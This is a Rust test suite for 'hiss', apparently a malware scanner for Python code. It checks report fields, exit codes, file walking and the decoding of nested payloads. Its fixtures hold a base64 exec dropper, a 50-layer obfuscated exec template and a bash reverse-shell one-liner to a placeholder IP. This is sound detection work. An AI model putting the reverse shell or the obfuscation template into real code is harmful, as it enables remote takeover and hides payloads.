//! The command line as CONTRACT.md promises it: formats, fields, exit codes,
//! what is walked and what is not.

mod common;

use common::{hiss, root, scan_json, scan_path};
use std::fs;

const DROPPER: &str = "import base64\nblob = 'cHJpbnQoJ2hpJyk='\nexec(base64.b64decode(blob))\n";

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

#[test]
fn json_report_has_every_contract_field() {
    let dir = tmp();
    fs::write(dir.path().join("x.py"), DROPPER).unwrap();
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(r["version"], 1);
    assert_eq!(r["tool"]["name"], "hiss");
    let f = &r["findings"][0];
    for key in [
        "rule",
        "name",
        "severity",
        "confidence",
        "path",
        "line",
        "column",
        "end_line",
        "end_column",
        "message",
        "snippet",
        "context",
        "chain",
        "sha256",
        "fingerprint",
        "package",
        "family",
    ] {
        assert!(f.get(key).is_some(), "finding lacks {key}: {f:#}");
    }
    assert_eq!(f["rule"], "HS101");
    assert_eq!(f["name"], "decoded-payload-exec");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["line"], 3);
    assert_eq!(f["column"], 1);
    assert_eq!(f["context"], "import");
    assert_eq!(f["chain"], serde_json::json!(["base64"]));
    assert_eq!(f["snippet"], "exec(base64.b64decode(blob))");
    assert_eq!(f["sha256"].as_str().unwrap().len(), 64);
    assert!(f["path"].as_str().unwrap().ends_with("x.py"));
    for key in ["files", "bytes", "findings", "errors", "duration_ms"] {
        assert!(r["summary"].get(key).is_some(), "summary lacks {key}");
    }
    assert_eq!(r["summary"]["files"], 1);
    assert_eq!(r["errors"], serde_json::json!([]));
}

#[test]
fn paths_are_reported_as_reached_from_the_argument() {
    let dir = tmp();
    fs::create_dir_all(dir.path().join("pkg")).unwrap();
    fs::write(dir.path().join("pkg/x.py"), DROPPER).unwrap();
    let out = hiss()
        .current_dir(dir.path())
        .args(["scan", "--format", "json", "pkg"])
        .output()
        .unwrap();
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["findings"][0]["path"], "pkg/x.py");
}

#[test]
fn exit_codes_follow_fail_on() {
    let dir = tmp();
    fs::write(dir.path().join("x.py"), DROPPER).unwrap();
    let p = dir.path().to_str().unwrap();
    assert_eq!(scan_json(&["--fail-on", "never", p]).0, 0);
    assert_eq!(scan_json(&["--fail-on", "critical", p]).0, 1);
    let clean = tmp();
    fs::write(clean.path().join("ok.py"), "print('hello')\n").unwrap();
    assert_eq!(scan_json(&[clean.path().to_str().unwrap()]).0, 0);
}

#[test]
fn an_unreadable_input_is_an_error_and_exit_2_but_findings_win() {
    let dir = tmp();
    let missing = dir.path().join("does-not-exist");
    let (code, r) = scan_json(&[missing.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert_eq!(r["errors"].as_array().unwrap().len(), 1);
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("no such file")
    );

    fs::write(dir.path().join("x.py"), DROPPER).unwrap();
    let (code, r) = scan_json(&[
        missing.to_str().unwrap(),
        dir.path().join("x.py").to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "a finding at the threshold wins over an error");
    assert_eq!(r["findings"].as_array().unwrap().len(), 1);
}

#[test]
fn bad_usage_exits_2() {
    hiss().args(["scan", "--format", "xml"]).assert().code(2);
    hiss().args(["explain", "HS999"]).assert().code(2);
}

#[test]
fn hidden_and_ignored_files_and_shebang_scripts_are_scanned() {
    let dir = tmp();
    fs::create_dir_all(dir.path().join(".venv/lib")).unwrap();
    fs::write(dir.path().join(".gitignore"), ".venv/\n").unwrap();
    fs::write(dir.path().join(".venv/lib/x.py"), DROPPER).unwrap();
    fs::write(
        dir.path().join("tool"),
        format!("#!/usr/bin/env python3\n{DROPPER}"),
    )
    .unwrap();
    fs::write(dir.path().join("notes.txt"), DROPPER).unwrap();
    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
    let paths: Vec<&str> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.iter().any(|p| p.ends_with(".venv/lib/x.py")),
        "{paths:?}"
    );
    assert!(paths.iter().any(|p| p.ends_with("/tool")), "{paths:?}");
    assert!(
        !paths.iter().any(|p| p.ends_with("notes.txt")),
        "text files get signatures only: {paths:?}"
    );
}

#[cfg(unix)]
#[test]
fn symlinks_are_not_followed_and_fifos_are_reported_not_opened() {
    let dir = tmp();
    let outside = tmp();
    fs::write(outside.path().join("x.py"), DROPPER).unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("link")).unwrap();
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
    let fifo = dir.path().join("pipe.py");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(r["findings"].as_array().unwrap().len(), 0);
    if made.is_ok_and(|s| s.success()) {
        assert_eq!(r["summary"]["files"], 0, "a FIFO is not a file to read");
        // ... and not silently skipped: it is an error, so exit 2.
        assert_eq!(code, 2, "{r:#}");
        assert_eq!(
            r["errors"][0]["message"],
            "not a regular file (a FIFO): not read"
        );
    } else {
        assert_eq!(code, 0, "{r:#}");
    }
}

#[test]
fn two_runs_print_the_same_bytes() {
    let dir = tmp();
    for i in 0..20 {
        fs::write(dir.path().join(format!("m{i}.py")), DROPPER).unwrap();
    }
    let run = || {
        let mut out = hiss()
            .args(["scan", "--format", "json", dir.path().to_str().unwrap()])
            .output()
            .unwrap()
            .stdout;
        // duration_ms is the one field allowed to differ
        let mut v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        v["summary"]["duration_ms"] = 0.into();
        out = serde_json::to_vec(&v).unwrap();
        out
    };
    assert_eq!(run(), run());
}

#[test]
fn human_output_points_at_the_line_with_a_caret() {
    let dir = tmp();
    fs::write(dir.path().join("x.py"), DROPPER).unwrap();
    let out = hiss()
        .env("NO_COLOR", "1")
        .args(["scan", dir.path().to_str().unwrap()])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("critical[HS101] decoded-payload-exec"),
        "{text}"
    );
    assert!(text.contains("x.py:3:1"), "{text}");
    assert!(text.contains("3 | exec(base64.b64decode(blob))"), "{text}");
    assert!(text.contains("| ^^^^"), "{text}");
    assert!(
        text.contains("hiss: 1 finding (1 critical) in 1 file"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'), "no colour when not a terminal");
}

#[test]
fn rules_and_explain_come_from_the_rule_docs() {
    let out = hiss().arg("rules").output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("HS101") && text.contains("decoded-payload-exec"));
    let out = hiss().args(["explain", "HS108"]).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("## What it does"));
    assert!(text.contains("## Why it matters"));
    assert!(text.contains("reverse-shell"));
}

/// InvisibleFerret's template, nested 50 times: reverse → base64 → zlib → exec.
#[test]
fn fifty_layers_are_undone_and_the_chain_names_every_step() {
    use base64::Engine;
    use std::io::Write;
    let mut code = String::from("print('hi')\n");
    for _ in 0..50 {
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(code.as_bytes()).unwrap();
        let b64 = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
        let reversed: String = b64.chars().rev().collect();
        code = format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{reversed}'))\n"
        );
    }
    let dir = tmp();
    fs::write(dir.path().join("main99.py"), &code).unwrap();
    let (code, r) = scan_json(&[dir.path().join("main99.py").to_str().unwrap()]);
    assert_eq!(code, 1);
    let deepest = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "HS101")
        .map(|f| f["chain"].as_array().unwrap().len())
        .max()
        .unwrap();
    assert_eq!(deepest, 150, "{:#}", r["findings"]);
    let f = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "HS101")
        .unwrap();
    assert_eq!(f["line"], 1);
    assert_eq!(f["severity"], "critical");
    let chain: Vec<&str> = f["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    assert_eq!(&chain[..3], &["reverse", "base64", "zlib"]);
}

#[test]
fn a_payload_decoded_from_a_literal_is_analysed_again() {
    // The stage hidden in the blob starts a reverse-shell one-liner; the file
    // itself only decodes and execs.
    use base64::Engine;
    let stage = "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n";
    let blob = base64::engine::general_purpose::STANDARD.encode(stage);
    let dir = tmp();
    fs::write(
        dir.path().join("helper.py"),
        format!(
            "import base64\nPAYLOAD = '{blob}'\n\ndef run():\n    exec(base64.b64decode(PAYLOAD))\n"
        ),
    )
    .unwrap();
    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
    let shell = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "HS108")
        .unwrap_or_else(|| panic!("no HS108 in the decoded layer: {:#}", r["findings"]));
    assert_eq!(
        shell["line"], 5,
        "points at the expression holding the payload"
    );
    assert_eq!(shell["chain"], serde_json::json!(["base64"]));
    assert_eq!(shell["severity"], "critical");
}

#[test]
fn a_notebook_finding_points_at_its_cell_and_at_the_stored_line() {
    let nb = root().join("corpus/malicious/notebooks/take-home-assignment.ipynb");
    let (code, r) = scan_path(&nb);
    assert_eq!(code, 1);
    let f = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "HS101")
        .expect("the zlib/base64 cell is flagged");
    assert_eq!(f["cell"], serde_json::json!({"index": 4, "line": 2}));
    assert_eq!(
        f["line"], 39,
        "the line of the .ipynb file holding the code"
    );
    assert_eq!(f["chain"], serde_json::json!(["base64", "zlib"]));
    let human = hiss().arg("scan").arg(&nb).output().unwrap();
    let text = String::from_utf8_lossy(&human.stdout);
    assert!(
        text.contains("take-home-assignment.ipynb:39:6 (cell 4, line 2)"),
        "{text}"
    );
}

#[test]
fn max_time_stops_starting_files_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    // Sorted first, about 2 s of parsing; then many quick files.
    let mut slow = Vec::new();
    while slow.len() < 2 << 20 {
        slow.extend_from_slice(b"a=b+c(d,[e]);");
    }
    std::fs::write(dir.path().join("a_slow.py"), slow).unwrap();
    for i in 0..200 {
        std::fs::write(dir.path().join(format!("b{i:03}.py")), "print('hi')\n").unwrap();
    }
    let (code, r) = common::scan_json(&[
        "--no-cache",
        "--isolated",
        "--threads",
        "1",
        "--max-time",
        "0.5",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(code, 2, "{r}");
    let files = r["summary"]["files"].as_u64().unwrap();
    assert!(files < 201, "the budget stopped the walk: {files} files");
    assert!(
        r["errors"]
            .to_string()
            .contains("--max-time budget ran out"),
        "{}",
        r["errors"]
    );
    // Without the budget every file is scanned.
    let (code, r) = common::scan_json(&["--no-cache", "--isolated", dir.path().to_str().unwrap()]);
    assert_eq!(code, 0, "{}", r["errors"]);
    assert_eq!(r["summary"]["files"], 201);
}

#[test]
fn output_writes_the_report_to_a_file_not_stdout() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("drop.py"),
        "import base64\nblob = 'cHJpbnQoJ2hpJyk='\nexec(base64.b64decode(blob))\n",
    )
    .unwrap();
    for (format, last) in [("jsonl", "\"type\":\"summary\""), ("json", "\"summary\"")] {
        let out_file = dir.path().join(format!("report.{format}"));
        let out = common::hiss()
            .args(["scan", "--no-cache", "--isolated", "--format", format, "-o"])
            .arg(&out_file)
            .arg(dir.path().join("drop.py"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "the exit code is unchanged");
        assert!(out.stdout.is_empty(), "nothing on stdout");
        let text = std::fs::read_to_string(&out_file).unwrap();
        assert!(text.contains("HS101") && text.contains(last), "{text}");
    }
    let out = common::hiss()
        .args(["scan", "--no-cache", "-o", "/nonexistent-dir/r.json", "."])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--output /nonexistent-dir/r.json"));
}
